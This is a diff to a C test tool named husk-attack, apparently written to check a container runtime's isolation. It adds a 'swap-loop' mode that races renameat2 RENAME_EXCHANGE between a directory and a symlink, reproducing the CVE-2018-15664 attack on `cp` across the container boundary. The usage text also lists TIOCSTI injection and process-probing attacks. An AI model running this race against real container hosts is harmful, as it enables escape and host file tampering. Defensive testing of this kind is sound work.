@@ -11,7 +11,11 @@
  *   probe PID MARKER      everything container root might do to a process
  *                         that is still husk: stop it, read its environ and
  *                         cmdline (MARKER found?), open its mem, ptrace it,
- *                         reopen its fds and its exe for writing */
+ *                         reopen its fds and its exe for writing
+ *   swap-loop DIR TARGET SECS   for SECS seconds, swap directory DIR with a
+ *                         symlink to TARGET as fast as renameat2
+ *                         RENAME_EXCHANGE can (CVE-2018-15664's race
+ *                         against `cp` into or out of the container) */
 #include <errno.h>
 #include <fcntl.h>
 #include <signal.h>
@@ -23,6 +27,7 @@
 #include <sys/socket.h>
 #include <sys/syscall.h>
 #include <sys/wait.h>
+#include <time.h>
 #include <unistd.h>
 
 /* Also kept in the container's /tmp/attack.log: a background attacker's
@@ -174,8 +179,36 @@ static int refused_syscalls(void)
     return 0;
 }
 
+static int swap_loop(const char *directory, const char *target, int seconds)
+{
+    char link[4096];
+    snprintf(link, sizeof(link), "%s.swap", directory);
+    unlink(link);
+    if (symlink(target, link) < 0) {
+        report("swap-loop symlink", 0, errno);
+        return 0;
+    }
+    time_t end = time(NULL) + seconds;
+    unsigned long swaps = 0;
+    int error = 0;
+    while (time(NULL) < end)
+        for (int i = 0; i < 1000; i++) {
+            if (syscall(SYS_renameat2, AT_FDCWD, directory, AT_FDCWD, link, 2 /* EXCHANGE */) == 0)
+                swaps++;
+            else
+                error = errno;
+        }
+    /* Left as it was found: the directory under its name. */
+    if (swaps % 2 == 1)
+        syscall(SYS_renameat2, AT_FDCWD, directory, AT_FDCWD, link, 2);
+    report("swap-loop", swaps > 0, error);
+    return 0;
+}
+
 int main(int argc, char **argv)
 {
+    if (argc == 5 && strcmp(argv[1], "swap-loop") == 0)
+        return swap_loop(argv[2], argv[3], atoi(argv[4]));
     if (argc == 2 && strcmp(argv[1], "refused-syscalls") == 0)
         return refused_syscalls();
     if (argc == 3 && strcmp(argv[1], "tiocsti") == 0)
@@ -185,6 +218,6 @@ int main(int argc, char **argv)
     if (argc == 4 && strcmp(argv[1], "probe") == 0)
         return probe(atoi(argv[2]), argv[3]);
     fprintf(stderr, "usage: husk-attack tiocsti TEXT | tiocsti-later SECS TEXT | "
-                    "refused-syscalls | probe PID MARKER\n");
+                    "refused-syscalls | probe PID MARKER | swap-loop DIR TARGET SECS\n");
     return 2;
 }
